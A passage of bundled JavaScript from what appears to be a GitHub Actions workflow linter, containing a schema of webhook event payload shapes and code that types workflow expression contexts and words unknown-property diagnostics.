    "check_suite": { "action": "s", "check_suite": { "after": "s", "app": { "client_id": "s", "created_at": "s", "description": "s", "events": ["s"], "external_url": "s", "html_url": "s", "id": "n", "name": "s", "node_id": "s", "owner": "#15", "permissions": { "actions": "s", "administration": "s", "artifact_metadata": "s", "attestations": "s", "checks": "s", "content_references": "s", "contents": "s", "copilot_requests": "s", "deployments": "s", "discussions": "s", "emails": "s", "environments": "s", "issues": "s", "keys": "s", "members": "s", "merge_queues": "s", "metadata": "s", "models": "s", "organization_administration": "s", "organization_hooks": "s", "organization_packages": "s", "organization_plan": "s", "organization_projects": "s", "organization_secrets": "s", "organization_self_hosted_runners": "s", "organization_user_blocking": "s", "packages": "s", "pages": "s", "pull_requests": "s", "repository_hooks": "s", "repository_projects": "s", "secret_scanning_alerts": "s", "secrets": "s", "security_events": "s", "security_scanning_alert": "s", "single_file": "s", "statuses": "s", "team_discussions": "s", "vulnerability_alerts": "s", "workflows": "s" }, "slug": "s", "updated_at": "s" }, "before": "s", "check_runs_url": "s", "conclusion": "s", "created_at": "s", "head_branch": "s", "head_commit": "#17", "head_sha": "s", "id": "n", "latest_check_runs_count": "n", "node_id": "s", "pull_requests": "#14", "rerequestable": "b", "runs_rerequestable": "b", "status": "s", "updated_at": "s", "url": "s" }, "enterprise": "#0", "installation": { "id": "n", "node_id": "s" }, "organization": "#1", "repository": "#7", "sender": "#3" },
    "create": { "description": "s", "enterprise": "#0", "installation": { "id": "n", "node_id": "s" }, "master_branch": "s", "organization": "#1", "pusher_type": "s", "ref": "s", "ref_type": "s", "repository": "#7", "sender": "#3" },
    "delete": { "enterprise": "#0", "installation": { "id": "n", "node_id": "s" }, "organization": "#1", "pusher_type": "s", "ref": "s", "ref_type": "s", "repository": "#7", "sender": "#3" },
    "deployment": { "action": "s", "deployment": "#20", "enterprise": "#0", "installation": { "id": "n", "node_id": "s" }, "organization": "#1", "repository": "#7", "sender": "#3", "workflow": "#21", "workflow_run": "#23" },
    "deployment_status": { "action": "s", "check_run": { "completed_at": "s", "conclusion": "s", "details_url": "s", "external_id": "s", "head_sha": "s", "html_url": "s", "id": "n", "name": "s", "node_id": "s", "started_at": "s", "status": "s", "url": "s", "~": "?" }, "deployment": "#20", "deployment_status": { "created_at": "s", "creator": "#15", "deployment_url": "s", "description": "s", "environment": "s", "environment_url": "s", "id": "n", "log_url": "s", "node_id": "s", "performed_via_github_app": "#19", "repository_url": "s", "state": "s", "target_url": "s", "updated_at": "s", "url": "s" }, "enterprise": "#0", "installation": { "id": "n", "node_id": "s" }, "organization": "#1", "repository": "#7", "sender": "#3", "workflow": "#21", "workflow_run": "#23" },
    "discussion": { "action": "s", "answer": "#25", "changes": { "body": { "from": "s" }, "category": { "from": "#26" }, "new_discussion": "#29", "new_repository": "#7", "title": { "from": "s" } }, "discussion": "#29", "enterprise": "#0", "installation": { "id": "n", "node_id": "s" }, "label": "#27", "old_answer": "#25", "organization": "#1", "repository": "#7", "sender": "#3" },
    "discussion_comment": { "action": "s", "changes": { "body": { "from": "s" } }, "comment": { "author_association": "s", "body": "s", "child_comment_count": "n", "created_at": "s", "discussion_id": "n", "html_url": "s", "id": "n", "node_id": "s", "parent_id": "n", "reactions": "#24", "repository_url": "s", "updated_at": "s", "user": "#15" }, "discussion": "#29", "enterprise": "#0", "installation": { "id": "n", "node_id": "s" }, "organization": "#1", "repository": "#7", "sender": "#3" },
    "fork": { "enterprise": "#0", "forkee": { "allow_auto_merge": "b", "allow_forking": "b", "allow_merge_commit": "b", "allow_rebase_merge": "b", "allow_squash_merge": "b", "allow_update_branch": "b", "archive_url": "s", "archived": "b", "assignees_url": "s", "blobs_url": "s", "branches_url": "s", "clone_url": "s", "collaborators_url": "s", "comments_url": "s", "commits_url": "s", "compare_url": "s", "contents_url": "s", "contributors_url": "s", "created_at": "?", "default_branch": "s", "delete_branch_on_merge": "b", "deployments_url": "s", "description": "s", "disabled": "b", "downloads_url": "s", "events_url": "s", "fork": "b", "forks": "n", "forks_count": "n", "forks_url": "s", "full_name": "s", "git_commits_url": "s", "git_refs_url": "s", "git_tags_url": "s", "git_url": "s", "has_downloads": "b", "has_issues": "b", "has_pages": "b", "has_projects": "b", "has_wiki": "b", "homepage": "s", "hooks_url": "s", "html_url": "s", "id": "n", "is_template": "b", "issue_comment_url": "s", "issue_events_url": "s", "issues_url": "s", "keys_url": "s", "labels_url": "s", "language": "?", "languages_url": "s", "license": { "*": "?", "key": "s", "name": "s", "node_id": "s", "spdx_id": "s", "url": "s", "~": "?" }, "master_branch": "s", "merges_url": "s", "milestones_url": "s", "mirror_url": "?", "name": "s", "node_id": "s", "notifications_url": "s", "open_issues": "n", "open_issues_count": "n", "organization": "s", "owner": "#15", "permissions": "#4", "private": "b", "public": "b", "pulls_url": "s", "pushed_at": "?", "releases_url": "s", "role_name": "s", "size": "n", "ssh_url": "s", "stargazers": "n", "stargazers_count": "n", "stargazers_url": "s", "statuses_url": "s", "subscribers_url": "s", "subscription_url": "s", "svn_url": "s", "tags_url": "s", "teams_url": "s", "topics": ["?"], "trees_url": "s", "updated_at": "s", "url": "s", "visibility": "s", "watchers": "n", "watchers_count": "n", "web_commit_signoff_required": "b" }, "installation": { "id": "n", "node_id": "s" }, "organization": "#1", "repository": "#7", "sender": "#3" },
    "gollum": { "enterprise": "#0", "installation": { "id": "n", "node_id": "s" }, "organization": "#1", "pages": [{ "action": "s", "html_url": "s", "page_name": "s", "sha": "s", "summary": "s", "title": "s" }], "repository": "#7", "sender": "#3" },
    "issue_comment": { "action": "s", "changes": { "body": { "from": "s" } }, "comment": { "author_association": "s", "body": "s", "created_at": "s", "html_url": "s", "id": "n", "issue_url": "s", "node_id": "s", "performed_via_github_app": "#10", "reactions": "#24", "updated_at": "s", "url": "s", "user": "#15" }, "enterprise": "#0", "installation": { "id": "n", "node_id": "s" }, "issue": { "active_lock_reason": "s", "assignee": "#15", "assignees": "#31", "author_association": "s", "body": "s", "closed_at": "s", "comments": "n", "comments_url": "s", "created_at": "s", "draft": "b", "events_url": "s", "html_url": "s", "id": "n", "issue_dependencies_summary": "#32", "labels": "#28", "labels_url": "s", "locked": "b", "milestone": "#33", "node_id": "s", "number": "n", "performed_via_github_app": "#34", "pull_request": "#35", "reactions": "#24", "repository_url": "s", "state": "s", "state_reason": "s", "sub_issues_summary": "#36", "timeline_url": "s", "title": "s", "type": "#37", "updated_at": "s", "url": "s", "user": "#15" }, "organization": "#1", "repository": "#7", "sender": "#3" },
    "issues": { "action": "s", "assignee": "#15", "changes": { "body": { "from": "s" }, "new_issue": { "active_lock_reason": "s", "assignee": "#15", "assignees": "#38", "author_association": "s", "body": "s", "closed_at": "s", "comments": "n", "comments_url": "s", "created_at": "s", "draft": "b", "events_url": "s", "html_url": "s", "id": "n", "issue_dependencies_summary": "#32", "issue_field_values": "#41", "labels": "#28", "labels_url": "s", "locked": "b", "milestone": "#42", "node_id": "s", "number": "n", "performed_via_github_app": "#19", "pull_request": "#35", "reactions": "#24", "repository_url": "s", "state": "s", "state_reason": "s", "sub_issues_summary": "#36", "timeline_url": "s", "title": "s", "type": "#37", "updated_at": "s", "url": "s", "user": "#15" }, "new_repository": "#43", "old_issue": { "active_lock_reason": "s", "assignee": "#15", "assignees": "#38", "author_association": "s", "body": "s", "closed_at": "s", "comments": "n", "comments_url": "s", "created_at": "s", "draft": "b", "events_url": "s", "html_url": "s", "id": "n", "issue_dependencies_summary": "#32", "issue_field_values": "#41", "labels": "#28", "labels_url": "s", "locked": "b", "milestone": "#42", "node_id": "s", "number": "n", "performed_via_github_app": "#19", "pull_request": "#35", "reactions": "#24", "repository_url": "s", "state": "s", "state_reason": "s", "sub_issues_summary": "#36", "timeline_url": "s", "title": "s", "type": "#37", "updated_at": "s", "url": "s", "user": "#15", "~": "?" }, "old_repository": "#43", "title": { "from": "s" } }, "enterprise": "#0", "installation": { "id": "n", "node_id": "s" }, "issue": { "active_lock_reason": "s", "assignee": "#30", "assignees": "#31", "author_association": "s", "body": "s", "closed_at": "s", "comments": "n", "comments_url": "s", "created_at": "s", "draft": "b", "events_url": "s", "html_url": "s", "id": "n", "issue_dependencies_summary": "#32", "issue_field_values": "#41", "labels": [{ "*": "?", "color": "s", "default": "b", "description": "s", "id": "n", "name": "s", "node_id": "s", "url": "s", "~": "?" }], "labels_url": "s", "locked": "b", "milestone": "#33", "node_id": "s", "number": "n", "performed_via_github_app": "#34", "pull_request": "#35", "reactions": "#24", "repository_url": "s", "state": "s", "state_reason": "s", "sub_issues_summary": "#36", "timeline_url": "s", "title": "s", "type": "#37", "updated_at": "s", "url": "s", "user": "#15" }, "label": "#27", "milestone": { "closed_at": "s", "closed_issues": "n", "created_at": "s", "creator": "#15", "description": "s", "due_on": "s", "html_url": "s", "id": "n", "labels_url": "s", "node_id": "s", "number": "n", "open_issues": "n", "state": "s", "title": "s", "updated_at": "s", "url": "s" }, "organization": "#1", "repository": "#7", "sender": "#3", "type": "#37" },
    "label": { "action": "s", "changes": { "color": { "from": "s" }, "description": { "from": "s" }, "name": { "from": "s" } }, "enterprise": "#0", "installation": { "id": "n", "node_id": "s" }, "label": "#27", "organization": "#1", "repository": "#7", "sender": "#3" },
    "merge_group": { "action": "s", "installation": { "id": "n", "node_id": "s" }, "merge_group": { "base_ref": "s", "base_sha": "s", "head_commit": { "author": { "email": "s", "name": "s", "~": "?" }, "committer": { "email": "s", "name": "s", "~": "?" }, "id": "s", "message": "s", "timestamp": "s", "tree_id": "s" }, "head_ref": "s", "head_sha": "s" }, "organization": "#1", "reason": "s", "repository": "#7", "sender": "#3" },
    "milestone": { "action": "s", "changes": { "description": { "from": "s" }, "due_on": { "from": "s" }, "title": { "from": "s" } }, "enterprise": "#0", "installation": { "id": "n", "node_id": "s" }, "milestone": { "closed_at": "?", "closed_issues": "n", "created_at": "s", "creator": "#15", "description": "s", "due_on": "s", "html_url": "s", "id": "n", "labels_url": "s", "node_id": "s", "number": "n", "open_issues": "n", "state": "s", "title": "s", "updated_at": "s", "url": "s" }, "organization": "#1", "repository": "#7", "sender": "#3" },
    "page_build": { "build": { "commit": "s", "created_at": "s", "duration": "n", "error": { "message": "s" }, "pusher": "#15", "status": "s", "updated_at": "s", "url": "s" }, "enterprise": "#0", "id": "n", "installation": { "id": "n", "node_id": "s" }, "organization": "#1", "repository": "#7", "sender": "#3" },
    "project": { "action": "s", "changes": { "body": { "from": "s" }, "name": { "from": "s" } }, "enterprise": "#0", "installation": { "id": "n", "node_id": "s" }, "organization": "#1", "project": { "body": "s", "columns_url": "s", "created_at": "s", "creator": "#15", "html_url": "s", "id": "n", "name": "s", "node_id": "s", "number": "n", "owner_url": "s", "state": "s", "updated_at": "s", "url": "s" }, "repository": "#7", "sender": "#3" },
    "project_card": { "action": "s", "changes": { "column_id": { "from": "n" }, "note": { "from": "s" } }, "enterprise": "#0", "installation": { "id": "n", "node_id": "s" }, "organization": "#1", "project_card": { "after_id": "n", "archived": "b", "column_id": "n", "column_url": "s", "content_url": "s", "created_at": "s", "creator": "#15", "id": "n", "node_id": "s", "note": "s", "project_url": "s", "updated_at": "s", "url": "s" }, "repository": "#7", "sender": "#3" },
    "project_column": { "action": "s", "changes": { "name": { "from": "s" } }, "enterprise": "#0", "installation": { "id": "n", "node_id": "s" }, "organization": "#1", "project_column": { "after_id": "n", "cards_url": "s", "created_at": "s", "id": "n", "name": "s", "node_id": "s", "project_url": "s", "updated_at": "s", "url": "s" }, "repository": "#7", "sender": "#3" },
    "public": { "enterprise": "#0", "installation": { "id": "n", "node_id": "s" }, "organization": "#1", "repository": "#7", "sender": "#3" },
    "pull_request": "#64",
    "pull_request_review": { "action": "s", "changes": { "body": { "from": "s" } }, "enterprise": "#0", "installation": { "id": "n", "node_id": "s" }, "organization": "#1", "pull_request": { "_links": "#46", "active_lock_reason": "s", "assignee": "#15", "assignees": ["#65"], "author_association": "s", "auto_merge": "#66", "base": "#68", "body": "s", "closed_at": "s", "comments_url": "s", "commits_url": "s", "created_at": "s", "diff_url": "s", "draft": "b", "head": "#70", "html_url": "s", "id": "n", "issue_url": "s", "labels": "#28", "locked": "b", "merge_commit_sha": "s", "merged_at": "s", "milestone": "#42", "node_id": "s", "number": "n", "patch_url": "s", "requested_reviewers": "#72", "requested_teams": "#73", "review_comment_url": "s", "review_comments_url": "s", "state": "s", "statuses_url": "s", "title": "s", "updated_at": "s", "url": "s", "user": "#15" }, "repository": "#7", "review": { "_links": { "html": { "href": "s" }, "pull_request": { "href": "s" } }, "author_association": "s", "body": "s", "commit_id": "s", "html_url": "s", "id": "n", "node_id": "s", "pull_request_url": "s", "state": "s", "submitted_at": "s", "updated_at": "s", "user": "#15" }, "sender": "#3" },
    "pull_request_review_comment": { "action": "s", "changes": { "body": { "from": "s" } }, "comment": { "_links": { "html": { "href": "s" }, "pull_request": { "href": "s" }, "self": { "href": "s" } }, "author_association": "s", "body": "s", "commit_id": "s", "created_at": "s", "diff_hunk": "s", "html_url": "s", "id": "n", "in_reply_to_id": "n", "line": "n", "node_id": "s", "original_commit_id": "s", "original_line": "n", "original_position": "n", "original_start_line": "n", "path": "s", "position": "n", "pull_request_review_id": "n", "pull_request_url": "s", "reactions": "#24", "side": "s", "start_line": "n", "start_side": "s", "subject_type": "s", "updated_at": "s", "url": "s", "user": "#15" }, "enterprise": "#0", "installation": { "id": "n", "node_id": "s" }, "organization": "#1", "pull_request": { "_links": "#46", "active_lock_reason": "s", "assignee": "#15", "assignees": "#38", "author_association": "s", "auto_merge": "#66", "base": "#68", "body": "s", "closed_at": "s", "comments_url": "s", "commits_url": "s", "created_at": "s", "diff_url": "s", "draft": "b", "head": "#70", "html_url": "s", "id": "n", "issue_url": "s", "labels": "#28", "locked": "b", "merge_commit_sha": "s", "merged_at": "s", "milestone": "#42", "node_id": "s", "number": "n", "patch_url": "s", "requested_reviewers": "#72", "requested_teams": "#73", "review_comment_url": "s", "review_comments_url": "s", "state": "s", "statuses_url": "s", "title": "s", "updated_at": "s", "url": "s", "user": "#15" }, "repository": "#7", "sender": "#3" },
    "pull_request_target": "#64",
    "push": { "after": "s", "base_ref": "s", "before": "s", "commits": [{ "added": ["s"], "author": "#16", "committer": "#16", "distinct": "b", "id": "s", "message": "s", "modified": ["s"], "removed": ["s"], "timestamp": "s", "tree_id": "s", "url": "s" }], "compare": "s", "created": "b", "deleted": "b", "enterprise": "#0", "forced": "b", "head_commit": { "added": ["s"], "author": "#16", "committer": "#16", "distinct": "b", "id": "s", "message": "s", "modified": ["s"], "removed": ["s"], "timestamp": "s", "tree_id": "s", "url": "s", "~": "?" }, "installation": { "id": "n", "node_id": "s" }, "organization": "#1", "pusher": "#16", "ref": "s", "repository": "#43", "sender": "#3" },
    "registry_package": { "action": "s", "enterprise": "#0", "installation": { "id": "n", "node_id": "s" }, "organization": "#1", "registry_package": { "created_at": "s", "description": "?", "ecosystem": "s", "html_url": "s", "id": "n", "name": "s", "namespace": "s", "owner": "#74", "package_type": "s", "package_version": { "author": "#74", "body": "?", "body_html": "s", "container_metadata": { "labels": { "*": "?", "~": "?" }, "manifest": { "*": "?", "~": "?" }, "tag": { "digest": "s", "name": "s" } }, "created_at": "s", "description": "s", "docker_metadata": [{ "tags": ["s"], "~": "?" }], "draft": "b", "html_url": "s", "id": "n", "installation_command": "s", "manifest": "s", "metadata": [{ "*": "?" }], "name": "s", "npm_metadata": { "author": "?", "bin": { "*": "?" }, "bugs": "?", "commit_oid": "s", "contributors": ["s"], "cpu": ["s"], "deleted_by_id": "n", "dependencies": { "*": "?" }, "description": "s", "dev_dependencies": { "*": "?" }, "directories": "?", "dist": "?", "engines": { "*": "?" }, "files": ["s"], "git_head": "s", "has_shrinkwrap": "b", "homepage": "s", "id": "s", "installation_command": "s", "keywords": ["s"], "license": "s", "main": "s", "maintainers": ["s"], "man": { "*": "?" }, "name": "s", "node_version": "s", "npm_user": "s", "npm_version": "s", "optional_dependencies": { "*": "?" }, "os": ["s"], "peer_dependencies": { "*": "?" }, "published_via_actions": "b", "readme": "s", "release_id": "n", "repository": "?", "scripts": { "*": "?" }, "version": "s", "~": "?" }, "nuget_metadata": [{ "id": "?", "name": "s", "value": "?" }], "package_files": [{ "content_type": "s", "created_at": "s", "download_url": "s", "id": "n", "md5": "s", "name": "s", "sha1": "s", "sha256": "s", "size": "n", "state": "s", "updated_at": "s" }], "package_url": "s", "prerelease": "b", "release": { "author": "#74", "created_at": "s", "draft": "b", "html_url": "s", "id": "n", "name": "s", "prerelease": "b", "published_at": "s", "tag_name": "s", "target_commitish": "s", "url": "s" }, "rubygems_metadata": [{ "commit_oid": "s", "dependencies": [{ "*": "?" }], "description": "s", "homepage": "s", "metadata": { "*": "?" }, "name": "s", "platform": "s", "readme": "s", "repo": "s", "version_info": { "version": "s" } }], "summary": "s", "tag_name": "s", "target_commitish": "s", "target_oid": "s", "updated_at": "s", "version": "s", "~": "?" }, "registry": { "*": "?", "about_url": "s", "name": "s", "type": "s", "url": "s", "vendor": "s", "~": "?" }, "updated_at": "s" }, "repository": "#7", "sender": "#3" },
    "release": { "action": "s", "changes": { "body": { "from": "s" }, "make_latest": { "to": "b" }, "name": { "from": "s" }, "tag_name": { "from": "s" } }, "enterprise": "#0", "installation": { "id": "n", "node_id": "s" }, "organization": "#1", "release": { "assets": [{ "browser_download_url": "s", "content_type": "s", "created_at": "s", "digest": "s", "download_count": "n", "id": "n", "label": "s", "name": "s", "node_id": "s", "size": "n", "state": "s", "updated_at": "s", "uploader": "#65", "url": "s", "~": "?" }], "assets_url": "s", "author": "#15", "body": "s", "created_at": "s", "discussion_url": "s", "draft": "b", "html_url": "s", "id": "n", "immutable": "b", "name": "s", "node_id": "s", "prerelease": "b", "published_at": "s", "reactions": "#24", "tag_name": "s", "tarball_url": "s", "target_commitish": "s", "updated_at": "s", "upload_url": "s", "url": "s", "zipball_url": "s" }, "repository": "#7", "sender": "#3" },
    "repository_dispatch": { "action": "s", "branch": "s", "client_payload": { "*": "?", "~": "?" }, "enterprise": "#0", "installation": { "id": "n", "node_id": "s" }, "organization": "#1", "repository": "#7", "sender": "#3" },
    "status": { "avatar_url": "s", "branches": [{ "commit": { "sha": "s", "url": "s" }, "name": "s", "protected": "b" }], "commit": { "author": "#65", "comments_url": "s", "commit": { "author": "#16", "comment_count": "n", "committer": "#16", "message": "s", "tree": { "sha": "s", "url": "s" }, "url": "s", "verification": { "payload": "s", "reason": "s", "signature": "s", "verified": "b", "verified_at": "s" } }, "committer": "#65", "html_url": "s", "node_id": "s", "parents": [{ "html_url": "s", "sha": "s", "url": "s" }], "sha": "s", "url": "s" }, "context": "s", "created_at": "s", "description": "s", "enterprise": "#0", "id": "n", "installation": { "id": "n", "node_id": "s" }, "name": "s", "organization": "#1", "repository": "#7", "sender": "#3", "sha": "s", "state": "s", "target_url": "s", "updated_at": "s" },
    "watch": { "action": "s", "enterprise": "#0", "installation": { "id": "n", "node_id": "s" }, "organization": "#1", "repository": "#7", "sender": "#3" },
    "workflow_dispatch": { "enterprise": "#0", "inputs": { "*": "?", "~": "?" }, "installation": { "id": "n", "node_id": "s" }, "organization": "#1", "ref": "s", "repository": "#7", "sender": "#3", "workflow": "s" },
    "workflow_run": { "action": "s", "enterprise": "#0", "installation": { "id": "n", "node_id": "s" }, "organization": "#1", "repository": "#7", "sender": "#3", "workflow": "#21", "workflow_run": { "actor": "#15", "artifacts_url": "s", "cancel_url": "s", "check_suite_id": "n", "check_suite_node_id": "s", "check_suite_url": "s", "conclusion": "s", "created_at": "s", "display_title": "s", "event": "s", "head_branch": "s", "head_commit": "#17", "head_repository": "#75", "head_sha": "s", "html_url": "s", "id": "n", "jobs_url": "s", "logs_url": "s", "name": "s", "node_id": "s", "path": "s", "previous_attempt_url": "s", "pull_requests": [{ "base": "#12", "head": "#12", "id": "n", "number": "n", "url": "s", "~": "?" }], "referenced_workflows": [{ "path": "s", "ref": "s", "sha": "s" }], "repository": "#75", "rerun_url": "s", "run_attempt": "n", "run_number": "n", "run_started_at": "s", "status": "s", "triggering_actor": "#15", "updated_at": "s", "url": "s", "workflow_id": "n", "workflow_url": "s" } }
};

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/event-payloads.js



const shared = new Map();
const payloads = new Map();
/** The type of a stored shape; shared shapes are converted once (types are never changed after). */
function event_payloads_typeOf(shape, depth = 0) {
    if (depth > 64)
        return ANY;
    if (typeof shape === 'string') {
        if (shape.startsWith('#')) {
            const i = Number(shape.slice(1));
            let t = shared.get(i);
            if (!t)
                shared.set(i, (t = EVENT_SHARED[i] === undefined ? ANY : event_payloads_typeOf(EVENT_SHARED[i], depth + 1)));
            return t;
        }
        return shape === 's' ? STRING : shape === 'n' ? NUMBER : shape === 'b' ? BOOL : ANY;
    }
    if (Array.isArray(shape))
        return arrayOf(shape[0] === undefined ? ANY : event_payloads_typeOf(shape[0], depth + 1));
    const props = new Map();
    const object = shape;
    for (const [name, s] of Object.entries(object))
        if (name !== '*' && name !== '~')
            props.set(name.toLowerCase(), event_payloads_typeOf(s, depth + 1));
    const t = { kind: 'object', props };
    if (object['*'] !== undefined)
        t.mapped = ANY;
    if (object['~'] !== undefined)
        t.nullable = true;
    return t;
}
/** The payload of a trigger, or undefined when the spec does not describe it. */
function payloadOf(trigger) {
    let t = payloads.get(trigger);
    if (!t && Object.hasOwn(EVENT_PAYLOADS, trigger)) {
        const converted = event_payloads_typeOf(EVENT_PAYLOADS[trigger]);
        if (converted.kind === 'object')
            payloads.set(trigger, (t = converted));
    }
    return t;
}
/** The triggers of a workflow, in file order. */
function triggersOf(workflow) {
    return [...workflow.on.keys()];
}
/**
 * The type of `github.event` in a workflow: the payloads of its triggers merged, or an object with
 * any property when one trigger's payload is not known (or the workflow has no trigger). A fresh
 * top-level object: the caller may set properties on it (`inputs` of workflow_dispatch).
 */
function eventType(workflow) {
    const key = [...new Set(triggersOf(workflow))].sort().join(' ');
    let t = merged.get(key);
    if (!t) {
        let m;
        for (const trigger of key.split(' ')) {
            const p = payloadOf(trigger);
            m = !p ? looseObject() : m ? merge(m, p) : p;
            if (!p)
                break;
        }
        t = m?.kind === 'object' ? m : looseObject();
        // Workflows repeat a few sets of triggers; a set of a hostile file is not kept.
        if (merged.size < MERGED_MOST)
            merged.set(key, t);
    }
    return { ...t, props: new Map(t.props) };
}
/** The payloads merged, by set of triggers (sorted, space-separated). */
const merged = new Map();
const MERGED_MOST = 256;
/** The property at `path` (lower case, below the payload) of a type, if it is an object that has it. */
function at(t, path) {
    for (const name of path) {
        if (!t || t.kind !== 'object')
            return undefined;
        t = t.props.get(name);
    }
    return t;
}
function list(names, conjunction) {
    return names.length <= 1 ? names.join('') : `${names.slice(0, -1).join(', ')} ${conjunction} ${names[names.length - 1]}`;
}
/** The triggers other than the workflow's whose payload has `github.event.<path>.<name>`. */
function otherTriggersHaving(triggers, path, name) {
    return Object.keys(EVENT_PAYLOADS).filter((e) => !triggers.includes(e) && at(payloadOf(e), [...path, name]) !== undefined);
}
/** Whether `github.event.<path>.<name>`, unknown under the workflow's triggers, is in another trigger's payload. */
function inOtherTriggers(workflow, path, name) {
    return otherTriggersHaving(triggersOf(workflow), path, name).length > 0;
}
/**
 * The message of PG105 for an unknown property `name` of `github.event.<path>` (path below the
 * event, lower case), naming the workflow's triggers; undefined when github.event is not typed
 * by them.
 */
function eventPropertyMessage(workflow, path, name) {
    const triggers = triggersOf(workflow);
    if (!triggers.length || !triggers.every((t) => payloadOf(t)))
        return undefined;
    const where = ['github', 'event', ...path].join('.');
    const full = `${where}.${name}`;
    const elsewhere = otherTriggersHaving(triggers, path, name);
    if (elsewhere.length) {
        const of = triggers.length === 1 ? `${triggers[0]}, the only trigger of this workflow` : `${list(triggers, 'or')}, the triggers of this workflow`;
        const shown = elsewhere.slice(0, 4);
        const more = elsewhere.length > shown.length ? ` and ${elsewhere.length - shown.length} more` : '';
        return `${full} is not in the payload of ${of}: it is always null here (it is in the payload of ${list(shown, 'and')}${more})`;
    }
    const having = triggers.filter((t) => at(payloadOf(t), path)?.kind === 'object');
    const receiver = having.map((t) => at(payloadOf(t), path));
    const candidates = new Set(receiver.flatMap((r) => [...r.props.keys()]));
    const best = nearest(name, candidates);
    const events = having.length === 1 ? `the ${having[0]} event` : `the ${list(having, 'and')} events`;
    return `property "${name}" is not defined in ${where} of ${events}${best !== undefined ? `; did you mean "${best}"?` : ''}`;
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/typed-expressions.js
/**
 * The contexts of a workflow typed from its declarations, as actionlint's rule_expression.go does:
 * `matrix` from `strategy.matrix` (rows, `include`; an expression is unknown), `inputs` from
 * `workflow_call`/`workflow_dispatch`, `secrets` of a reusable workflow, `needs` from the jobs
 * needed and their outputs, `steps` from the steps before (outputs of local actions known), and
 * `github.event` from the payloads of the triggers (event-payloads.ts), its `inputs` from workflow_dispatch. {@link analyseWorkflow} types every `${{ }}` of a workflow once a run
 * and keeps the problems, which the rules PG105, PG106 and PG108 report by kind.
 */




/** Keys whose value is evaluated as a string: an object, array or null there is printed as `Object`/`Array`/empty. */
const TEMPLATE_KEYS = new Set(['name', 'run-name', 'env', 'run', 'with', 'working-directory', 'shell', 'concurrency', 'environment', 'outputs', 'defaults']);
/** Of those, the keys that hold a mapping, which one expression may give whole. */
const MAPPING_KEYS = new Set(['env', 'with', 'concurrency', 'environment', 'outputs', 'defaults']);
const GITHUB_PROPS = Object.fromEntries([
    'action', 'action_path', 'action_ref', 'action_repository', 'action_status', 'actor', 'actor_id', 'api_url', 'base_ref', 'env', 'event_name',
    'event_path', 'graphql_url', 'head_ref', 'job', 'output', 'path', 'ref', 'ref_name', 'ref_type', 'repository', 'repository_id', 'repository_owner',
    'repository_owner_id', 'repository_visibility', 'repositoryurl', 'run_attempt', 'run_id', 'run_number', 'secret_source', 'server_url', 'sha',
    'state', 'step_summary', 'token', 'triggering_actor', 'workflow', 'workflow_ref', 'workflow_sha', 'workspace'
].map((n) => [n, STRING]));
/** The contexts every expression sees, before the workflow's declarations (actionlint's BuiltinGlobalVariableTypes). */
function builtinScope() {
    return new Map([
        ['github', strictObject({ ...GITHUB_PROPS, artifact_cache_size_limit: NUMBER, ref_protected: BOOL, retention_days: NUMBER, event: looseObject() })],
        ['env', mapOf(STRING)],
        [
            'job',
            strictObject({
                check_run_id: NUMBER,
                container: strictObject({ id: STRING, network: STRING }),
                services: mapOf(strictObject({ id: STRING, network: STRING, ports: mapOf(STRING) })),
                status: STRING
            })
        ],
        ['steps', strictObject()],
        ['runner', strictObject({ name: STRING, os: STRING, arch: STRING, temp: STRING, tool_cache: STRING, debug: STRING, environment: STRING })],
        ['secrets', mapOf(STRING)],
        ['strategy', looseObject({ 'fail-fast': BOOL, 'job-index': NUMBER, 'job-total': NUMBER, 'max-parallel': NUMBER })],
        ['matrix', strictObject()],
        ['needs', strictObject()],
        ['inputs', strictObject()],
        ['vars', mapOf(STRING)]
    ]);
}
function mappingEntries(token) {
    if (!token || !(0,dist/* isMapping */.pi)(token))
        return [];
    const out = [];
    for (const pair of token) {
        const key = (0,dist/* isString */.Kg)(pair.key) ? pair.key.value : undefined;
        // A YAML key such as `null:` may reach here without a string value.
        out.push([typeof key === 'string' ? key : String(pair.key.toString?.() ?? key), pair.value]);
    }
    return out;
}
function find(token, key) {
    return mappingEntries(token).find(([k]) => k === key)?.[1];
}
/** TokenType.Null of the workflow parser's tokens. */
const NULL_TOKEN = 7;
const INPUT_TYPES = { boolean: BOOL, number: NUMBER, string: STRING, choice: STRING, environment: STRING };
/** `inputs:` of a trigger typed by their `type:` (unknown types are `any`). */
function inputsType(inputs) {
    return strictObject(new Map(mappingEntries(inputs).map(([name, spec]) => [name.toLowerCase(), inputType(spec)])));
}
function inputType(spec) {
    const type = find(spec, 'type');
    return (type && (0,dist/* isString */.Kg)(type) && INPUT_TYPES[type.value]) || ANY;
}
/** The scope of a workflow's expressions: inputs, secrets and github.event.inputs from its triggers. */
function workflowScope(workflow) {
    const scope = builtinScope();
    // github.event: the payloads of the triggers (any property when one of them is not known).
    const event = eventType(workflow);
    scope.get('github').props.set('event', event);
    const call = workflow.on.get('workflow_call');
    const dispatch = workflow.on.get('workflow_dispatch');
    let inputs;
    if (call)
        inputs = inputsType(find(call.value, 'inputs'));
    if (dispatch) {
        const typed = inputsType(find(dispatch.value, 'inputs'));
        inputs = inputs && (inputs.props.size > 0 || inputs.mapped) ? merge(inputs, typed) : typed;
        event.props.set('inputs', strictObject(new Map([...typed.props.keys()].map((k) => [k, STRING]))));
    }
    if (inputs)
        scope.set('inputs', inputs);
    const secrets = call ? find(call.value, 'secrets') : undefined;
    if (secrets && (0,dist/* isMapping */.pi)(secrets)) {
        const props = new Map([
            ['github_token', STRING],
            ['actions_step_debug', STRING],
            ['actions_runner_debug', STRING]
        ]);
        for (const [name] of mappingEntries(secrets))
            props.set(name.toLowerCase(), STRING);
        scope.set('secrets', strictObject(props));
    }
    return scope;
}
/** The outputs of a reusable workflow a job calls: known for a local one, else any name. */
function calledOutputs(project, uses) {
    const called = project.local(uses);
    if (called?.kind !== 'workflow' || !called.workflowCall)
        return mapOf(STRING);
    return strictObject(new Map([...called.workflowCall.outputs.keys()].map((k) => [k.toLowerCase(), STRING])));
}
/** `needs` of a job: the jobs it needs directly, with their outputs and result. */
function needsType(workflow, job, project) {
    const props = new Map();
    for (const need of job.needs) {
        const id = need.value.toLowerCase();
        const target = workflow.jobsByLowerId.get(id);
        if (!target || target === job || props.has(id))
            continue;
        const outputs = target.uses ? calledOutputs(project, target.uses.value) : strictObject(new Map([...target.outputs.keys()].map((k) => [k.toLowerCase(), STRING])));
        props.set(id, strictObject({ outputs, result: STRING }));
    }
    return strictObject(props);
}
